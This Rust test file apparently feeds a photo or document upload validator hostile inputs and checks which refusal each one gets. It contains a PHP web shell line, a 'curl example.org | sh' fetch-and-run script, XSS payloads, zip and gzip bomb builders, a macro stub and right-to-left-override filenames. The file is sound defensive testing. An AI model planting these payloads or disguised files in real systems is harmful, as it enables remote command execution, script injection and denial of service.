//! Files of other kinds, files cut short, two files in one, names that hide.

use std::io::Write as _;

use documents::{MOST_BYTES, Refusal};

use super::Hostile;
use crate::samples;

const OTHER: &[Refusal] = &[Refusal::OtherKind];
const ARCHIVE: &[Refusal] = &[Refusal::Archive];
const TWO: &[Refusal] = &[Refusal::TwoInOne, Refusal::Script, Refusal::Damaged];

/// What calls itself a photo.
const OTHERS: [(&str, &[u8]); 40] = [
    ("a program of Windows", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xFF\xFF\0\0"),
    ("a program of Linux", b"\x7FELF\x02\x01\x01\0\0\0\0\0\0\0\0\0"),
    ("a program of macOS", b"\xCF\xFA\xED\xFE\x07\0\0\x01"),
    ("a class of Java", b"\xCA\xFE\xBA\xBE\0\0\0\x34"),
    ("a program of Android", b"dex\n035\0"),
    ("a WebAssembly", b"\0asm\x01\0\0\0"),
    ("a script of the shell", b"#!/bin/sh\nid\n"),
    ("a script of Windows", b"@echo off\r\nwhoami\r\n"),
    ("PHP", b"<?php system($_GET['c']); ?>"),
    ("a page", b"<!DOCTYPE html><script>alert(1)</script>"),
    ("an SVG with a script", b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>"),
    ("an SVG that loads", b"<?xml version='1.0'?><svg onload='alert(1)'/>"),
    ("an XML that expands", b"<?xml version='1.0'?><!DOCTYPE l [<!ENTITY a 'a'>]><l>&a;</l>"),
    ("a GIF", b"GIF89a\x01\0\x01\0\0\0\0;"),
    ("a GIF that is a script", b"GIF89a=1;alert(1);//"),
    ("an icon", b"\0\0\x01\0\x01\0\x10\x10"),
    ("a Photoshop", b"8BPS\0\x01\0\0\0\0\0\0"),
    ("an AVIF", b"\0\0\0\x1Cftypavif\0\0\0\0avifmif1"),
    ("a JPEG XL", b"\xFF\x0A\xFA\x1F\x02"),
    ("a JPEG 2000", b"\0\0\0\x0CjP  \r\n\x87\n"),
    ("a film", b"\0\0\0\x18ftypmp42\0\0\0\0"),
    ("a film of Matroska", b"\x1A\x45\xDF\xA3\x93\x42\x82\x88"),
    ("a film of Windows", b"RIFF\x10\0\0\0AVI LIST"),
    ("a sound", b"RIFF\x24\0\0\0WAVEfmt "),
    ("music", b"ID3\x04\0\0\0\0\0\0"),
    ("a rich text", b"{\\rtf1\\ansi{\\object\\objautlink}}"),
    ("a letter with pieces", b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed\r\n"),
    ("PostScript", b"%!PS-Adobe-3.0\n(x) run\n"),
    ("a form's data", b"%FDF-1.2\n1 0 obj<</FDF<</JavaScript 2 0 R>>>>endobj"),
    ("DjVu", b"AT&TFORM\0\0\0\x10DJVU"),
    ("a shortcut of Windows", b"L\0\0\0\x01\x14\x02\0\0\0\0\0"),
    ("a cabinet", b"MSCF\0\0\0\0\x2C\0\0\0"),
    ("an extension of a browser", b"Cr24\x03\0\0\0"),
    ("a database", b"SQLite format 3\0"),
    ("a big TIFF", b"II+\0\x08\0\0\0\x10\0\0\0\0\0\0\0"),
    ("text that begins as a BMP", b"BM: <script>alert(1)</script>, twenty signs"),
    ("a PDF after a mark of order", b"\xEF\xBB\xBF%PDF-1.7\n%%EOF"),
    ("a PDF after a line", b"\n%PDF-1.7\n%%EOF"),
    ("plain words", b"bonjour"),
    ("one byte", b"\xFF"),
];

/// What is an archive, whatever it says.
const ARCHIVES: [(&str, &[u8]); 7] = [
    ("RAR", b"Rar!\x1A\x07\x01\0"),
    ("7z", b"7z\xBC\xAF\x27\x1C\0\x04"),
    ("gzip", b"\x1F\x8B\x08\0\0\0\0\0"),
    ("bzip2", b"BZh91AY&SY"),
    ("xz", b"\xFD7zXZ\0\0\x04"),
    ("an old Word", b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"),
    ("an empty ZIP", b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"),
];

/// What is hidden behind the end of a good file.
fn hidden() -> Vec<(&'static str, Vec<u8>)> {
    let mut program = b"MZ\x90\0".to_vec();
    program.resize(64, 0);
    program.extend_from_slice(b"This program cannot be run in DOS mode.");
    vec![
        ("a ZIP", samples::zip("a.txt", b"hidden")),
        ("a JAR", samples::zip("META-INF/MANIFEST.MF", b"Main-Class: A")),
        ("a program", program),
        ("a program of Linux", b"\x7FELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec()),
        ("a page", b"\n<html><body><script>alert(1)</script>".to_vec()),
        ("PHP", b"<?php system($_GET['c']); ?>".to_vec()),
        ("a PDF", samples::pages(1)),
        ("a script", b"\n#!/bin/sh\ncurl example.org | sh\n".to_vec()),
        ("a GIF", b"GIF89a\x01\0\x01\0\0\0\0;".to_vec()),
        ("a RAR", b"Rar!\x1A\x07\x01\0\x33\x92\xB5\xE5".to_vec()),
        ("a 7z", b"7z\xBC\xAF\x27\x1C\0\x04\0\0\0\0".to_vec()),
    ]
}

pub(super) fn all() -> Vec<Hostile> {
    let mut all = vec![Hostile::new("nothing", &[Refusal::Empty], Vec::new)];
    all.extend(OTHERS.map(|(what, bytes)| Hostile::new(what, OTHER, || bytes.to_vec())));
    all.extend(ARCHIVES.map(|(what, bytes)| Hostile::new(what, ARCHIVE, || bytes.to_vec())));
    all.extend(archives());
    for (ending, file) in samples::each() {
        for (part, length) in [
            ("a quarter", file.len() / 4),
            ("half", file.len() / 2),
            ("nearly all", file.len() - 3),
        ] {
            let cut = file[..length].to_vec();
            all.push(Hostile::new(
                format!("{part} of a {ending}"),
                &[Refusal::Damaged],
                move || cut.clone(),
            ));
        }
        let magic = file[..16].to_vec();
        let none = &[Refusal::Damaged, Refusal::OtherKind];
        all.push(Hostile::new(format!("the magic of a {ending}"), none, move || magic.clone()));
        for (what, tail) in hidden() {
            let both = [file.as_slice(), &tail].concat();
            let what = format!("{what} behind a {ending}");
            all.push(Hostile::new(what, TWO, move || both.clone()));
        }
    }
    for length in [MOST_BYTES + 1, MOST_BYTES * 2] {
        all.push(Hostile::new("too long", &[Refusal::TooLong], move || {
            let mut file = samples::jpeg(30, 20);
            file.resize(length, 0);
            file
        }));
    }
    all.extend(names());
    all
}

fn archives() -> Vec<Hostile> {
    let nested = || {
        (0..12).fold(samples::eicar(), |inner, depth| samples::zip(&format!("{depth}.zip"), &inner))
    };
    let document = || samples::zip("word/vbaProject.bin", b"Sub AutoOpen()");
    let bomb = || samples::zip("zeros", &vec![0; 50 << 20]);
    let tar = || {
        let mut tar = vec![0; 1024];
        tar[..5].copy_from_slice(b"a.txt");
        tar[257..262].copy_from_slice(b"ustar");
        tar
    };
    let packed = || {
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        encoder.write_all(&vec![0; 20 << 20]).unwrap();
        encoder.finish().unwrap()
    };
    vec![
        Hostile::new("a ZIP in a ZIP, twelve deep", ARCHIVE, nested),
        Hostile::new("a document with macros", ARCHIVE, document),
        Hostile::new("a ZIP bomb", ARCHIVE, bomb),
        Hostile::new("a gzip bomb", ARCHIVE, packed),
        Hostile::new("a tar", OTHER, tar),
        Hostile::new("the antivirus' test file, called a photo", OTHER, samples::eicar),
    ]
}

/// Good photos under names that read as others.
fn names() -> Vec<Hostile> {
    ['\u{202A}', '\u{202B}', '\u{202D}', '\u{202E}', '\u{2066}', '\u{2067}', '\u{2068}']
        .into_iter()
        .map(|sign| Hostile {
            name: format!("photo{sign}gpj.exe"),
            ..Hostile::new("a name turned around", &[Refusal::DisguisedName], || {
                samples::jpeg(30, 20)
            })
        })
        .collect()
}
